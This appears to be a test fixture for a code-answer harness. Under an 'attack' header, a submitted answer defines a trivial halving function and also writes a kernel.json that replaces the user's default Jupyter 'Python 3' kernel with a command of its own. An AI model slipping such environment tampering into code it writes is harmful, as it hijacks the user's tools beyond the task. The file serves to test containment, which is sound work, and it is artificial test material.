# attack: The answer installs a kernel specification that starts a program of its own.
# expect: half passed
# never: file, neighbour

# %% half
import json, os
def half(x):
    return x / 2
place = "@HOME@/.local/share/jupyter/kernels/python3"
os.makedirs(place, exist_ok=True)
spec = {"argv": ["false"], "display_name": "Python 3", "language": "python"}
open(f"{place}/kernel.json", "w").write(json.dumps(spec))
